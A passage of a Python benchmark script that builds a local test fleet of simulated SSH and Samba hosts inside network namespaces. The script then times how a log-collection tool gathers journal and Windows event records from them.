    os.sched_setaffinity(0, {int(FLEET_CPU)})  # sshd, Samba, their sessions and the relay
    ssh_hosts = [ssh_address(index) for index in range(args.ssh_hosts)]
    started: list[Samba] = []
    env = {
        "EVENTSWEEP_PASSWORD": PASSWORD,
        "EVENTSWEEP_CACHE": str(directory / "cache"),
        "PYTHONPATH": str(ROOT),
    }
    os.environ.pop("PYTHONDONTWRITEBYTECODE", None)  # imports from cached bytecode, as installed
    try:
        with sshd.running(directory / "ssh", ssh_hosts, port=PORT) as ssh:
            begun = time.perf_counter()
            make_journals(ssh, ssh_hosts, args.per_host)
            with ThreadPoolExecutor(4) as pool:
                count = args.win_hosts
                win_hosts = list(
                    pool.map(start_samba, range(count), [args] * count, [started] * count)
                )
            expected = {f"ssh://root@{host}:{PORT}": args.per_host for host in ssh_hosts}
            for host, port in win_hosts:
                expected[f"win://root@{host}:{port}/Security"] = args.security
                expected[f"win://root@{host}:{port}/System"] = args.system
            fleet = Fleet(directory, srv, cli, ssh, ssh_hosts, win_hosts, expected)
            print(f"bed made in {time.perf_counter() - begun:.1f} s", flush=True)
            warm = [*COMMAND, "rules", "check", *rule_sets()]  # fills the cache; exit 1: problems
            subprocess.run(warm, env={**os.environ, **env}, stdout=subprocess.DEVNULL, check=False)
            runs = bench(fleet, args, env)
            report(runs, args, fleet, breakdown(fleet, env))
    finally:
        for samba in started:
            samba.stop()
            shutil.rmtree(samba.root, ignore_errors=True)
        shutil.rmtree(directory, ignore_errors=True)
        print(f"\n(load average at the end {' '.join(f'{v:.2f}' for v in os.getloadavg())})")


def main(argv: Sequence[str] | None = None) -> None:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--ssh-hosts", type=int, default=100)
    parser.add_argument("--win-hosts", type=int, default=10)
    parser.add_argument("--per-host", type=int, default=2000, help="journal entries per ssh host")
    parser.add_argument("--security", type=int, default=5000, help="Security records per win host")
    parser.add_argument("--system", type=int, default=1000, help="System records per win host")
    parser.add_argument("--delays", type=int, nargs="+", default=[0, 50], help="one-way, ms")
    parser.add_argument("--rounds", type=int, default=3)
    parser.add_argument("--breakdown", type=Path, help=argparse.SUPPRESS)  # see match_apart
    args = parser.parse_args(argv)
    if args.breakdown:
        match_apart(args.breakdown)
        return
    if os.environ.get("BENCH_SRV"):
        inside(args)
        return
    srv, cli = f"es-hf-srv-{os.getpid()}", f"es-hf-cli-{os.getpid()}"
    sh("ip", "netns", "add", srv)
    try:
        sh("ip", "netns", "add", cli)
        sh("ip", "-n", cli, "link", "set", "lo", "up")
        env = {**os.environ, "BENCH_SRV": srv, "BENCH_CLI": cli}
        script = [sys.executable, __file__, *(sys.argv[1:] if argv is None else argv)]
        subprocess.run(["ip", "netns", "exec", srv, *script], env=env, check=True)
    finally:
        for ns in (srv, cli):
            subprocess.run(["ip", "netns", "del", ns], check=False, stderr=subprocess.DEVNULL)


if __name__ == "__main__":
    main()
